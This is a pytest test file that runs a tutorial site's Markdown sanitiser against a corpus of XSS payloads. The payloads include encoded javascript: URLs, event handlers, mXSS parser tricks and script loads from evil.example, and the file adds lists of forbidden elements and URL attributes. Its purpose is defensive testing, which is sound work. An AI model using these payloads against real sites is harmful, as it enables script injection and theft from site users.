"""The sanitiser against a corpus of XSS payloads: whatever authors write, no markup that runs.

Each rendering is parsed with the standard library's HTML parser (which decodes entities in
attribute values the way browsers do) and checked for executable markup, independently of the
allowlists in tutorials.rendering.
"""

import re
from html.parser import HTMLParser

import pytest

from tutorials.rendering import render_markdown

XSS_CORPUS = [
    # Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<script type="module">import("//evil.example/x.js")</script>',
    "<<script>alert(1)//<</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    # Frames, plugins, foreign content.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # Dangerous schemes in HTML links and images, in every disguise.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#0000058alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="javascript:alert(1) 1x">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # The same through Markdown syntax.
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java&#115;cript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[x]: javascript:alert(1)\n\n[reference link][x]",
    "<javascript:alert(1)>",
    # Attribute lists used to inject attributes.
    '# Title {: onclick="alert(1)" }',
    '![x](/media/a.png){: onerror="alert(1)" }',
    '[x](https://ok.example){: href="javascript:alert(1)" }',
    'paragraph\n{: style="background:url(javascript:alert(1))" }',
    '[x](/ok){: target="_blank" id="csrftoken" }',
    # CSS.
    '<div style="width: expression(alert(1))">x</div>',
    "<p style=\"background-image: url('javascript:alert(1)')\">x</p>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    # Document-level tricks.
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<isindex action=javascript:alert(1) type=image>",
    '<a id="csrftoken" name="config" href="/">clobber</a>',
    # Comments, CDATA and parser differentials (mXSS).
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    # Unclosed and nested markup.
    "<div><img src=x onerror=alert(1)",
    '<a href="https://ok.example/<img src=x onerror=alert(1)>">x',
    "<p><b><i><a href='javascript:alert(1)'>deep</a></i></b></p>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| 1 | 2 |",
]

FORBIDDEN_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style",
    "link", "meta", "base", "form", "input", "button", "textarea", "select", "isindex", "template",
    "noscript", "audio", "video", "source", "plaintext", "xmp", "title", "body", "html",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "background",
    "poster",
    "xlink:href",
    "srcset",
}
SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")


class ExecutableMarkupFinder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _check(self, tag, attrs):
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "id", "name", "target", "srcdoc"}:
                self.problems.append(f"attribute {name} on <{tag}>")
            elif name in URL_ATTRIBUTES and not url_is_safe(value or ""):
                self.problems.append(f"{name}={value!r} on <{tag}>")


def url_is_safe(url: str) -> bool:
    # As browsers do: drop leading spaces and control characters, and tabs/newlines anywhere.
    normalised = re.sub(r"[\t\n\r]", "", url).lstrip("\x00\x01\x02\x03\x04\x05\x06\x07\x08 \x0b\x0c\x0e\x0f"
                                                        "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b"
                                                        "\x1c\x1d\x1e\x1f").lower()  # fmt: skip
    scheme = _SCHEME.match(normalised)
    return scheme is None or scheme.group(1) in SAFE_SCHEMES


def executable_markup(html: str) -> list[str]:
    finder = ExecutableMarkupFinder()
    finder.feed(html)
    finder.close()
    return finder.problems


def test_the_corpus_is_large_enough():
    assert len(XSS_CORPUS) >= 40


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_payload_renders_without_executable_markup(payload):
    html = render_markdown(payload)
    assert executable_markup(html) == [], html


def test_the_whole_corpus_as_one_large_page_stays_inert():
    # Long enough that the sanitiser cuts it into several slices at varying places.
    filler = "Some text between payloads, *emphasised*, with `code`. " * 20
    page = "\n\n".join(f"{payload}\n\n{filler}" for payload in XSS_CORPUS)
    html = render_markdown(page)
    assert executable_markup(html) == []


def test_the_checker_itself_catches_executable_markup():
    assert executable_markup('<a href="&#x6A;avascript:alert(1)">x</a>')
    assert executable_markup('<a href=" java\tscript:x">x</a>')
    assert executable_markup("<img src=x onerror=alert(1)>")
    assert executable_markup("<svg></svg>")
    assert not executable_markup('<a href="/media/x.png">x</a><a href="mailto:a@b.example">m</a>')


def test_a_page_of_script_tags_shows_them_as_text():
    html = render_markdown("<script>alert(1)</script>\n\n<iframe src=//evil.example></iframe>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;iframe src=//evil.example&gt;&lt;/iframe&gt;" in html


def test_javascript_link_keeps_its_text_but_loses_the_target():
    assert render_markdown("[click me](javascript:alert(1))") == "<p><a>click me</a></p>"


def test_safe_links_survive():
    html = render_markdown("[a](https://example.org/x?y=1#z) [b](mailto:t@example.org) [c](../other/)")
    assert 'href="https://example.org/x?y=1#z"' in html
    assert 'href="mailto:t@example.org"' in html
    assert 'href="../other/"' in html


def test_data_urls_are_refused_even_for_images():
    assert "src=" not in render_markdown("![x](data:image/png;base64,iVBORw0KGgo=)")


def test_click_to_run_blocks_keep_their_action_and_machine_and_nothing_else():
    html = render_markdown(
        "```{.bash .run machine=beta}\nping -c1 alpha\n```\n\n"
        '```{.bash .type machine="x y" onclick="alert(1)" data-x=y}\nls\n```\n\n'
        "```{.bash .interrupt machine={{vm.a.ip}}}\nsleep 9\n```\n"
    )
    assert '<pre class="run"><code class="language-bash" machine="beta">ping -c1 alpha' in html
    # A machine that is not a machine name, handlers and other attributes are dropped.
    assert '<pre class="type"><code class="language-bash">ls' in html
    assert "onclick" not in html and "data-x" not in html and "x y" not in html
    assert 'machine="' not in html.split("sleep 9")[0].split("interrupt")[1]
